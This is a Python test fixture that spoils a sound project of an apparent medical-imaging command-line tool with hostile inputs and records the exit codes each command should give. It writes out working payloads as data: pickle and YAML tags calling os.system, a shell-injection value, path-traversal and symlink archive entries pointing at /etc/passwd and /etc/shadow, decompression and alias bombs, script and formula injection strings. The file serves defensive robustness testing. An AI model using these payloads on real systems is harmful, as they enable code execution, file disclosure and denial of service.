# ruff: noqa: E501
"""Inputs made to break a program, and the commands that they are given to.

Each entry of `CASES` spoils a copy of a sound project (a source, a prepared set, a run, a second run) and
names the commands to try, with the exit code that each should give.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import stat
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from PIL import Image

from tests.images.malformed import dicom, encoded, picture, png_claiming, zoo

FORMULA = '=HYPERLINK("http://x/?"&A1)'
SCRIPT = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
ESCAPE = "../../../../../../tmp/escaped-from-gcsam-med"
TERMINAL = "\x1b[2J\x1b]0;title\x07[bold red]markup[/]"


@dataclass(frozen=True)
class Project:
    """A sound project to be spoilt."""

    root: Path

    @property
    def data(self) -> Path:
        """Data root, with ``prepared/toy``."""
        return self.root / "data"

    @property
    def toy(self) -> Path:
        """The prepared set."""
        return self.data / "prepared" / "toy"

    @property
    def run(self) -> Path:
        """A finished run."""
        return self.root / "runs" / "one"

    @property
    def other(self) -> Path:
        """A second finished run."""
        return self.root / "runs" / "two"

    @property
    def source(self) -> Path:
        """A folder of class folders with images."""
        return self.root / "source"

    def edit(self, path: Path, change: Callable[[str], str]) -> None:
        """Change a text file."""
        path.write_text(change(path.read_text()))

    def set(self, path: Path, **values: object) -> None:
        """Change fields of a JSON file."""
        path.write_text(json.dumps({**json.loads(path.read_text()), **values}))

    def column(self, name: str, value: object) -> None:
        """Set a cell of the manifest's rows of the test split, and of the first row."""
        import pandas as pd

        path = self.toy / "manifest.csv"
        table = pd.read_csv(path, dtype=str, keep_default_na=False)
        rows = (table["split"] == "test") | (table.index == 0)
        table[name] = table[name].where(~rows, str(value)) if name in table else str(value)
        table.to_csv(path, index=False)


Arguments = list[str]
Commands = dict[str, Callable[[Project], Arguments]]

COMMANDS: Commands = {
    "prepare": lambda p: ["prepare", "--dataset", "folder", "--source", str(p.source), "--name", "made",
                          "--size", "32", "--workers", "0", "--data-root", str(p.data)],
    "train": lambda p: ["train", "--dataset", "toy", "--data-root", str(p.data), "--model", "tiny", "--device",
                        "cpu", "--epochs", "1", "--output", str(p.root / "new"), "--task", "segmentation"],
    "resume": lambda p: ["train", "--resume", str(p.run), "--extend", "--epochs", "3"],
    "evaluate": lambda p: ["evaluate", str(p.run), "--device", "cpu", "--resamples", "100"],
    "predict": lambda p: ["predict", str(p.run), str(p.source), "--output", str(p.root / "out"), "--device", "cpu"],
    "compare": lambda p: ["compare", str(p.run), str(p.other), "--output", str(p.root / "compared")],
    "sharpness": lambda p: ["sharpness", str(p.run), "--device", "cpu", "--cases", "4", "--trace-samples", "2",
                            "--line-points", "0", "--surface-points", "0", "--eigenvalues", "1"],
    "preview": lambda p: ["preview", "toy", "--data-root", str(p.data)],
    "audit": lambda p: ["audit", "toy", "--data-root", str(p.data)],
}  # fmt: skip


@dataclass(frozen=True)
class Case:
    """One hostile input.

    Parameters
    ----------
    spoil : callable
        Puts it into a sound project; may give arguments to add.
    codes : dict
        Exit codes that each command may give.
    """

    spoil: Callable[[Project], list[str] | None]
    codes: dict[str, tuple[int, ...]]


def _for(commands: str, *codes: int) -> dict[str, tuple[int, ...]]:
    return dict.fromkeys(commands.split(), codes)


def _config(text: str | bytes) -> Callable[[Project], list[str]]:
    def spoil(p: Project) -> list[str]:
        path = p.root / "evil.yaml"
        path.write_bytes(text if isinstance(text, bytes) else text.encode())
        return ["--config", str(path)]

    return spoil


def _set(text: str) -> Callable[[Project], list[str]]:
    return lambda p: ["--set", text]


def _fifo(path: Callable[[Project], Path]) -> Callable[[Project], None]:
    def spoil(p: Project) -> None:
        path(p).unlink(missing_ok=True)
        os.mkfifo(path(p))

    return spoil


def _text(path: Callable[[Project], Path], text: str | bytes) -> Callable[[Project], None]:
    def spoil(p: Project) -> None:
        path(p).write_bytes(text if isinstance(text, bytes) else text.encode())

    return spoil


def _json(path: Callable[[Project], Path], **values: object) -> Callable[[Project], None]:
    return lambda p: p.set(path(p), **values)


def _column(name: str, value: object) -> Callable[[Project], None]:
    return lambda p: p.column(name, value)


def _archive(fill: Callable[[zipfile.ZipFile], object]) -> Callable[[Project], None]:
    """Make the source an archive."""

    def spoil(p: Project) -> None:
        shutil.rmtree(p.source)
        content = io.BytesIO()
        with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
            fill(archive)
        _as_archive(p, content.getvalue())

    return spoil


def _as_archive(p: Project, content: bytes, suffix: str = ".zip") -> list[str]:
    shutil.rmtree(p.source, ignore_errors=True)
    path = p.source.with_suffix(suffix)
    path.write_bytes(content)
    return []


IMAGE = encoded(Image.fromarray(picture(40, 48)), "PNG")


def _zip_link(archive: zipfile.ZipFile) -> None:
    item = zipfile.ZipInfo("benign/link.png")
    item.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive.writestr(item, "/etc/passwd")


def _tar(fill: Callable[[tarfile.TarFile], object]) -> Callable[[Project], list[str]]:
    def spoil(p: Project) -> list[str]:
        content = io.BytesIO()
        with tarfile.open(fileobj=content, mode="w:gz") as tape:
            fill(tape)
        return _as_archive(p, content.getvalue(), ".tar.gz")

    return spoil


def _device(tape: tarfile.TarFile) -> None:
    item = tarfile.TarInfo("benign/zero.png")
    item.type, item.devmajor, item.devminor = tarfile.CHRTYPE, 1, 5
    tape.addfile(item)


def _hard_link(tape: tarfile.TarFile) -> None:
    item = tarfile.TarInfo("benign/shadow.png")
    item.type, item.linkname = tarfile.LNKTYPE, "/etc/shadow"
    tape.addfile(item)


def _encrypted(p: Project) -> None:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("benign/a.png", IMAGE)
    data = bytearray(content.getvalue())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + at] |= 1
    _as_archive(p, bytes(data))


def _named(name: str | bytes) -> Callable[[Project], None]:
    """A sound image under a hostile name."""

    def spoil(p: Project) -> None:
        folder = os.fsencode(p.source / "benign")
        with open(folder + b"/" + os.fsencode(name), "wb") as file:  # noqa: PTH123
            file.write(encoded(Image.fromarray(picture(40, 48, seed=77)), "PNG"))

    return spoil


def _class_named(name: str) -> Callable[[Project], None]:
    def spoil(p: Project) -> None:
        (p.source / "malignant").rename(p.source / name)

    return spoil


def _splits(text: str) -> Callable[[Project], list[str]]:
    def spoil(p: Project) -> list[str]:
        path = p.root / "splits.json"
        path.write_text(text)
        return ["--splits", str(path)]

    return spoil


def _splits_fifo(p: Project) -> list[str]:
    os.mkfifo(p.root / "splits.json")
    return ["--splits", str(p.root / "splits.json")]


def _array_of_objects(p: Project) -> None:
    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            return os.system, (f"touch {p.root}/canary",)

    np.save(p.toy / "images.npy", np.array([Evil()], dtype=object), allow_pickle=True)


def _plane_claim(p: Project) -> None:
    header = b"{'descr': '|u1', 'fortran_order': False, 'shape': (1000000, 1000000, 1000000), }"
    header += b" " * (118 - len(header) - 1) + b"\n"
    (p.toy / "images.npy").write_bytes(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header)


def _plane_header(p: Project) -> None:
    header = b"__import__('os').system('touch canary')" + b" " * 60 + b"\n"
    (p.toy / "images.npy").write_bytes(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header)


def _each_mask(content: bytes) -> Callable[[Project], None]:
    def spoil(p: Project) -> None:
        for path in (p.toy / "original_masks").glob("*.png"):
            path.write_bytes(content)

    return spoil


def _whole_zoo(p: Project) -> None:
    for name, (content, _) in zoo().items():
        (p.source / "benign" / name).write_bytes(content)


def _sparse(path: Callable[[Project], Path]) -> Callable[[Project], None]:
    def spoil(p: Project) -> None:
        with path(p).open("wb") as file:
            file.truncate(2**42)

    return spoil


def _link(path: Callable[[Project], Path], target: str) -> Callable[[Project], None]:
    def spoil(p: Project) -> None:
        path(p).unlink(missing_ok=True)
        path(p).symlink_to(target)

    return spoil


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(10)
)
MERGES = "a: &a {x: 1}\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} {{<<: [{', '.join(['*' + chr(97 + i)] * 9)}]}}\n" for i in range(10)
)
DATA = "train evaluate compare sharpness preview audit"


def _prepared() -> Iterator[tuple[str, Case]]:
    info, manifest = (lambda p: p.toy / "dataset.json"), (lambda p: p.toy / "manifest.csv")
    reading = "train evaluate sharpness preview audit"
    for name, spoil in {
        "dataset.json is no JSON": _text(info, "{"),
        "dataset.json is nested 100,000 deep": _text(info, "[" * 100_000),
        "dataset.json is a pipe": _fifo(info),
        "dataset.json claims 4 TiB": _sparse(info),
        "dataset.json: a square of 10^9 pixels": _json(info, size=10**9),
        "dataset.json: 10^12 cases": _json(info, n_cases=10**12),
        "dataset.json: -1 cases": _json(info, n_cases=-1),
        "dataset.json: 7 channels": _json(info, channels=7),
        "manifest without a column": lambda p: p.edit(manifest(p), lambda t: t.replace("case_id", "x")),
        "manifest of another length": lambda p: p.edit(
            manifest(p), lambda t: "\n".join(t.split("\n")[:9]) + "\n"
        ),
        "manifest with a height of 10^12": _column("height", 10**12),
        "manifest with a height of 10^300": _column("height", "1e300"),
        "manifest with a height of -5": _column("height", -5),
        "manifest with a height of 0": _column("height", 0),
        "manifest with an unknown split": _column("split", "evil"),
        "manifest with a split that is a path": _column("split", ESCAPE),
        "manifest with an open quote": lambda p: p.edit(manifest(p), lambda t: t.replace("\n", '\n"', 1)),
        "manifest of NUL bytes": _text(manifest, bytes(4096)),
        "manifest is a pipe": _fifo(manifest),
        "images.npy holds pickled objects": _array_of_objects,
        "images.npy claims 10^18 bytes": _plane_claim,
        "images.npy with code in its header": _plane_header,
        "images.npy cut short": lambda p: os.truncate(p.toy / "images.npy", 200),
        "images.npy is a pipe": _fifo(lambda p: p.toy / "images.npy"),
        "masks.npy is missing": lambda p: (p.toy / "masks.npy").unlink(),
    }.items():
        yield name, Case(spoil, _for(reading, 2))
    for name, spoil in {
        "spacing that is no number": _column("pixel_spacing", "axb"),
        "spacing of zero": _column("pixel_spacing", "0x0"),
        "spacing of NaN and infinity": _column("pixel_spacing", "nanxinf"),
        "spacing of 1e-300 mm": _column("pixel_spacing", "1e-300x1e-300"),
    }.items():
        yield name, Case(spoil, _for("evaluate", 2))
    yield (
        "original masks that claim 900 megapixels",
        Case(_each_mask(png_claiming(30_000, 30_000)), _for("evaluate", 2)),
    )
    yield "original masks of random bytes", Case(_each_mask(os.urandom(500)), _for("evaluate", 2))
    yield "original masks of another size", Case(_each_mask(IMAGE), _for("evaluate", 2))
    for name, value in {
        "a formula": FORMULA,
        "a script": SCRIPT,
        "a path out": ESCAPE,
        "a terminal's codes": TERMINAL,
    }.items():
        for column in ("case_id", "group_id", "device", "label"):
            if column == "label" and name == "a terminal's codes":
                continue  # what is no text of a figure draws a box; the report escapes it
            code = 2 if column == "label" else 0
            yield (
                f"{column} is {name}",
                Case(_column(column, value), _for("evaluate", 0, code) | _for("preview", 0)),
            )
    yield (
        "audit.json is nested 100,000 deep",
        Case(_text(lambda p: p.toy / "audit.json", "[" * 100_000), _for("audit", 2)),
    )
    yield "audit.json is a list", Case(_text(lambda p: p.toy / "audit.json", "[1]"), _for("audit", 2))


def _configs() -> Iterator[tuple[str, Case]]:
    for name, text in {
        "!!python/object/apply": "lr: !!python/object/apply:os.system ['touch canary']\n",
        "!!python/name": "lr: !!python/name:os.system\n",
        "a bomb of aliases": BOMB,
        "a bomb of merges": MERGES,
        "an alias of itself": "lr: &a [*a]\n",
        "nesting of 100,000": "lr: " + "[" * 100_000,
        "random bytes": bytes(range(256)),
        "2 MiB of spaces": " " * 2**21,
        "a list": "- lr\n- 1\n",
        "nothing": "",
        "a key twice": "lr: 0.1\nlr: 0.2\n",
        "an unknown key": "__class__: x\n",
        "a rate of NaN": "lr: .nan\n",
        "a rate of -1": "lr: -1\n",
        "10^30 epochs of text": "nonfinite_limit: '1e30'\n",
        "a batch of 0": "batch_size: 0\n",
        "a seed of -1": "seed: -1\n",
        "a list for a number": "batch_size: [1, 2]\n",
        "a path as loss": f"loss: {ESCAPE}\n",
        "a path as optimizer": f"optimizer: {ESCAPE}\n",
        "shell as precision": "precision: 'fp32; touch canary'\n",
        "a path as class": f"classes: ['{ESCAPE}']\n",
        "a number as class": "classes: [1]\n",
        "true as a number": "accumulate: yes\n",
    }.items():
        codes = _for("train", 2)
        arguments = _config(text)
        yield f"--config: {name}", Case(arguments, codes)
    yield "--config is a pipe", Case(_config_pipe, _for("train", 2))
    yield "--config is a folder", Case(lambda p: ["--config", str(p.root)], _for("train", 2))
    yield "--set without a value", Case(_set("lr"), _for("train", 2))
    yield (
        "--set of YAML tags",
        Case(_set("lr=!!python/object/apply:os.system ['touch canary']"), _for("train", 2)),
    )
    yield "--set nested 50,000 deep", Case(_set("lr=" + "[" * 50_000), _for("train", 2))
    yield "--weights /dev/zero", Case(lambda p: ["--weights", "/dev/zero"], _for("train", 2))
    yield (
        "--output below a file",
        Case(lambda p: ["--output", str(p.toy / "dataset.json" / "x")], _for("train evaluate", 2, 3)),
    )
    yield (
        "--output that is a file",
        Case(lambda p: ["--output", str(p.toy / "dataset.json")], _for("train evaluate compare", 2, 3)),
    )


def _config_pipe(p: Project) -> list[str]:
    os.mkfifo(p.root / "pipe.yaml")
    return ["--config", str(p.root / "pipe.yaml")]


def _runs() -> Iterator[tuple[str, Case]]:
    config, card = (lambda p: p.run / "config.yaml"), (lambda p: p.run / "model" / "model.json")
    weights = lambda p: p.run / "model" / "weights.safetensors"  # noqa: E731
    operating = lambda p: p.run / "model" / "operating_point.json"  # noqa: E731
    reference = lambda p: p.run / "model" / "training_images.json"  # noqa: E731
    for name, spoil in {
        "run: config.yaml of tags": _text(config, "!!python/object/apply:os.system ['touch canary']"),
        "run: config.yaml is a bomb": _text(config, BOMB),
        "run: config.yaml of another data set by path": lambda p: p.edit(
            config(p), lambda t: t.replace("dataset: toy", f"dataset: {ESCAPE}")
        ),
    }.items():
        yield name, Case(spoil, _for("evaluate sharpness resume", 2))
    for name, spoil in {
        "run: model.json nested 100,000 deep": _text(card, "[" * 100_000),
        "run: model.json is a pipe": _fifo(card),
        "run: model.json claims 4 TiB": _sparse(card),
        "run: model.json asks for a square of 10^9": _json(card, size=10**9),
        "run: model.json with a later layout": _json(card, schema=2),
        "run: weights are a pipe": _fifo(weights),
        "run: weights claim 4 TiB": _sparse(weights),
        "run: weights are a link to /dev/zero": _link(weights, "/dev/zero"),
        "run: weights are a pickle": _text(
            weights, b"\x80\x02cos\nsystem\nX\x0c\x00\x00\x00touch canary\x85R."
        ),
    }.items():
        yield name, Case(spoil, _for("evaluate predict sharpness", 4))
    for name, path in {"operating point": operating, "training images": reference}.items():
        for kind, text in {
            "of 100,000 levels": "[" * 100_000,
            "of NaN": '{"threshold": NaN}',
            "a list": "[1]",
        }.items():
            yield f"run: {name} {kind}", Case(_text(path, text), _for("predict", 4))
        yield f"run: {name} as a pipe", Case(_fifo(path), _for("predict", 0, 4))
    history, ledger = (lambda p: p.run / "history.csv"), (lambda p: p.run / "evaluations.jsonl")
    facts = lambda p: p.run / "environment.json"  # noqa: E731
    for name, spoil in {
        "run: history.csv of random bytes": _text(history, bytes(range(256)) * 9),
        "run: history.csv with scripts": _text(history, f"epoch,train_loss,{SCRIPT}\n1,{SCRIPT},{FORMULA}\n"),
        "run: history.csv is a pipe": _fifo(history),
        "run: ledger of nonsense": _text(ledger, "[" * 100_000 + "\n{}\nnull\n1\n" + '{"time": {}}\n'),
        "run: ledger is a pipe": _fifo(ledger),
        "run: environment.json of 100,000 levels": _text(facts, "[" * 100_000),
        "run: environment.json with scripts": _text(
            facts, json.dumps({"gcsam_med": SCRIPT, "device": FORMULA})
        ),
        "run: environment.json is a pipe": _fifo(facts),
    }.items():
        yield name, Case(spoil, _for("evaluate", 0, 2, 3) | _for("resume", 0, 2))
    yield "run: a figure's folder is a link out", Case(_evaluation_link, _for("evaluate", 0, 2, 3))
    yield "run: compare with cases.csv of scripts", Case(_scripts_in_cases, _for("compare", 0, 2))
    figures = lambda p: p.run / "evaluation" / "test" / "metrics.json"  # noqa: E731
    cases = lambda p: p.run / "evaluation" / "test" / "cases.csv"  # noqa: E731
    result = lambda p: p.run / "result.json"  # noqa: E731
    for name, spoil in {
        "metrics.json nested deep": _text(figures, "[" * 100_000),
        "metrics.json is a list": _text(figures, "[1]"),
        "metrics.json is a pipe": _fifo(figures),
        "metrics.json claims 4 TiB": _sparse(figures),
        "metrics.json without figures": _json(figures, metrics={}, run={}),
        "metrics.json with figures that are text": _json(figures, metrics={"dice": {"value": SCRIPT}}),
        "metrics.json of another task": _json(figures, task="classification"),
        "metrics.json of other data": _json(figures, dataset="other"),
        "cases.csv of random bytes": _text(cases, bytes(range(256)) * 9),
        "cases.csv is a pipe": _fifo(cases),
        "cases.csv of one line": _text(cases, "case_id,group_id,label,dice\n"),
        "cases.csv with a Dice of 10^9": _text(cases, "case_id,group_id,label,dice\na,a,benign,1e9\n"),
        "cases.csv with one case twice": _text(
            cases, "case_id,group_id,label,dice\na,a,benign,0.5\na,a,benign,0.5\n"
        ),
        "result.json of text": _json(result, epochs=SCRIPT),
        "result.json is empty": _text(result, ""),
    }.items():
        yield f"compare: {name}", Case(spoil, _for("compare", 2))


def _evaluation_link(p: Project) -> None:
    shutil.rmtree(p.run / "evaluation", ignore_errors=True)
    (p.run / "evaluation").symlink_to("/proc")


def _scripts_in_cases(p: Project) -> None:
    path = p.run / "evaluation" / "test" / "cases.csv"
    if path.is_file():
        p.edit(path, lambda t: t.replace("benign", SCRIPT.replace('"', '""')))


def _archives() -> Iterator[tuple[str, Case]]:
    zeros = bytes(50 * 2**20)
    for name, spoil in {
        "zip: a path out": _archive(lambda a: a.writestr(f"{ESCAPE}.png", IMAGE)),
        "zip: an absolute path": _archive(lambda a: a.writestr("/tmp/escaped-from-gcsam-med.png", IMAGE)),
        "zip: a path out with backslashes": _archive(lambda a: a.writestr("..\\..\\..\\escaped.png", IMAGE)),
        "zip: a link": _archive(_zip_link),
        "zip: a bomb": _archive(lambda a: a.writestr("benign/bomb.png", zeros)),
        "zip: encrypted": _encrypted,
        "zip: cut short": lambda p: _as_archive(p, b"PK\x03\x04" + bytes(50)),
        "zip: empty": lambda p: _as_archive(p, b""),
        "zip: random bytes": lambda p: _as_archive(p, os.urandom(2000)),
        "zip: no image": _archive(lambda a: a.writestr("readme.txt", "none")),
        "zip: a zip in it": _archive(lambda a: a.writestr("benign/inner.zip", b"PK\x05\x06" + bytes(18))),
        "tar: a device": _tar(_device),
        "tar: a hard link": _tar(_hard_link),
        "tar: a stream of zeros": lambda p: _as_archive(p, zlib.compress(zeros, wbits=31), ".tar.gz"),
        "tar: cut short": lambda p: _as_archive(p, b"\x1f\x8b\x08" + bytes(20), ".tar.gz"),
    }.items():
        codes = _for("prepare", 2)
        if name.startswith("zip"):
            # predict unpacks nothing to disk, so a member's path leads nowhere and its image is good.
            codes = codes | _for("predict", 0 if "path" in name else 2)
        yield name, Case(spoil, codes)


def _split_files() -> Iterator[tuple[str, Case]]:
    place = {"split": "train", "fold": 0, "group": "g"}
    for name, text in {
        "no JSON": "{",
        "100,000 levels": "[" * 100_000,
        "another layout": json.dumps({"schema": 9, "dataset": "x", "cases": {}}),
        "a field more": json.dumps({"schema": 1, "dataset": "x", "cases": {}, "code": "x"}),
        "no case": json.dumps({"schema": 1, "dataset": "x", "cases": {}}),
        "a path as split": json.dumps(
            {"schema": 1, "dataset": "x", "cases": {"a": place | {"split": ESCAPE}}}
        ),
        "fold 10^9": json.dumps({"schema": 1, "dataset": "x", "cases": {"a": place | {"fold": 10**9}}}),
        "a group of a megabyte": json.dumps(
            {"schema": 1, "dataset": "x", "cases": {"a": place | {"group": "g" * 10**6}}}
        ),
        "a number as group": json.dumps({"schema": 1, "dataset": "x", "cases": {"a": place | {"group": 1}}}),
    }.items():
        yield f"splits.json: {name}", Case(_splits(text), _for("prepare", 2))
    yield "splits.json is a pipe", Case(_splits_fifo, _for("prepare", 2))


def _images() -> Iterator[tuple[str, Case]]:
    yield f"{len(zoo())} malformed images at once", Case(_whole_zoo, _for("prepare predict", 2))
    yield (
        "an image is a pipe",
        Case(_fifo(lambda p: p.source / "benign" / "pipe.png"), _for("prepare", 2) | _for("predict", 0, 2)),
    )
    yield (
        "an image is a link to /etc/passwd",
        Case(
            _link(lambda p: p.source / "benign" / "l.png", "/etc/passwd"),
            _for("prepare", 2) | _for("predict", 2),
        ),
    )
    yield (
        "an image claims 4 TiB",
        Case(_sparse(lambda p: p.source / "benign" / "s.png"), _for("prepare predict", 2)),
    )
    for name, text in {
        "a line end": "a\nb.png",
        "a terminal's codes": "\x1b[2Ja\x07.png",
        "markup": "[bold red]a[bold].png",
        "bytes that are no text": b"a\xff\xfe.png",
        "a leading dash": "-rf.png",
        "a formula": "=cmd|'C'!A0.png",
        "HTML": "<img src=x onerror=alert(1)>.png",
        "text from right to left": "a\u202egnp.png",
        "240 characters": "x" * 240 + ".png",
        "a pattern": "*?[a].png",
    }.items():
        yield f"file name: {name}", Case(_named(text), _for("prepare predict", 0, 2))
    for name, text in {
        "a formula": FORMULA.replace("/", "_"),
        "HTML": "<b onclick=x>c",
        "a terminal's codes": "\x1b[2Jx",
    }.items():
        yield f"class name: {name}", Case(_class_named(text), _for("prepare", 0, 2))
    header = dicom(
        picture().tobytes(), PatientName=SCRIPT, Manufacturer=FORMULA, ManufacturerModelName=SCRIPT[:60]
    )
    yield (
        "DICOM tags of scripts and formulas",
        Case(_text(lambda p: p.source / "benign" / "a.dcm", header), _for("prepare predict", 0)),
    )


CASES: dict[str, Case] = dict(
    [*_prepared(), *_configs(), *_runs(), *_archives(), *_split_files(), *_images()]
)
